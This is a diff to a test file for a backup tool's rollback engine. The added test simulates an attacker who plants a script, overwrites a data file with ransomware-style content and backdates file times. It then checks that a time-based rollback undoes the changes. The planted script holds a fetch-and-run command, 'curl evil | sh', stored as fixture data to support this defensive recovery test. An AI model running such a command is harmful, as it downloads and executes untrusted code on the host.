@@ -1,11 +1,12 @@
 // rollback's decision per key (pure), and the engine on an in-memory bucket with a controlled
 // clock: undelete, upload, delete, keep, excluded keys, and a rerun that finds nothing to do.
 // (Server-side copies need S3: test/integration/rollback.test.ts.)
-import { renameSync } from 'node:fs';
+import { renameSync, utimesSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { Catalog } from '../../src/catalog/catalog.js';
 import { sqlite } from '../../src/catalog/connection.js';
+import { CatalogQueries } from '../../src/catalog/queries.js';
 import { backupGroup } from '../../src/engine/backup.js';
 import type { EngineEvent } from '../../src/engine/events.js';
 import { decideKey, type PlanContext } from '../../src/engine/rollback-plan.js';
@@ -188,14 +189,14 @@ describe('rollback of a path: source (a directory)', () => {
 
   const source = (): OpenedSource => ({ bucket: 'lake', objectStore: lake, prefixes: [''], isExcluded: () => false });
   const backup = () => backupGroup({ repo, catalog, policy: testPolicy(repo.location, [group]), group, sources: [source()] });
-  const run = (opts: { dryRun?: boolean; cutTime: number; events?: EngineEvent[] }) =>
+  const run = (opts: { dryRun?: boolean; cutTime: number; events?: EngineEvent[]; byTime?: true }) =>
     rollback({
       repo,
       catalog,
       bucket: 'lake',
       store: lake,
       scope: { prefixes: [''] },
-      cut: { runSeq: 1 },
+      cut: opts.byTime ? { time: opts.cutTime } : { runSeq: 1 },
       cutTime: opts.cutTime,
       isExcluded: () => false,
       keepNew: false,
@@ -241,6 +242,36 @@ describe('rollback of a path: source (a directory)', () => {
     expect(done.failed).toBe(0);
     expect((await keysUnder(lake, '')).sort()).toEqual(keys);
     for (const key of keys) expect((await getBytes(lake, key)).toString()).toBe(`rows of ${key}`);
+  });
+
+  it('to a time between runs: a planted file and an overwrite backdated by the attacker are undone', async () => {
+    const yesterday = new Date(Date.now() - 86_400_000);
+    await lake.put('t/a.parquet', Buffer.from('rows of a'));
+    await lake.put('t/b.parquet', Buffer.from('rows of b'));
+    expect((await backup()).status).toBe('complete');
+    await new Promise((r) => setTimeout(r, 20));
+    const before = Date.now(); // the responder's "before the attack", after run 1
+    await new Promise((r) => setTimeout(r, 20));
+    await lake.put('t/planted.sh', Buffer.from('curl evil | sh'));
+    await lake.put('t/a.parquet', Buffer.from('ENCRYPTED'));
+    for (const name of ['planted.sh', 'a.parquet']) utimesSync(join(dir.path, 'lake', 't', name), yesterday, yesterday);
+    // A file with a time in the future is not hidden from time cuts either.
+    await lake.put('t/future.txt', Buffer.from('x'));
+    utimesSync(join(dir.path, 'lake', 't', 'future.txt'), new Date('2031-01-01'), new Date('2031-01-01'));
+    expect((await backup()).status).toBe('complete');
+    const cut = (time: number) => new Map([...new CatalogQueries(catalog).stateAt('lake', '', { time })].map((v) => [v.key, v.size]));
+    // As the runs saw it: before the attack, run 1's state; now, run 2's.
+    expect([...cut(before).keys()].sort()).toEqual(['t/a.parquet', 't/b.parquet']);
+    expect(cut(before).get('t/a.parquet')).toBe('rows of a'.length);
+    expect([...cut(Date.now()).keys()].sort()).toEqual(['t/a.parquet', 't/b.parquet', 't/future.txt', 't/planted.sh']);
+    const events: EngineEvent[] = [];
+    await run({ dryRun: true, cutTime: before, byTime: true, events });
+    expect(events.flatMap((e) => (e.type === 'rollback-action' ? [`${e.key} ${e.action}`] : []))).toEqual([
+      't/a.parquet upload',
+      't/b.parquet unchanged',
+      't/future.txt delete',
+      't/planted.sh delete',
+    ]);
   });
 
   it('deletes files an attacker renamed (their times kept), and brings the originals back', async () => {
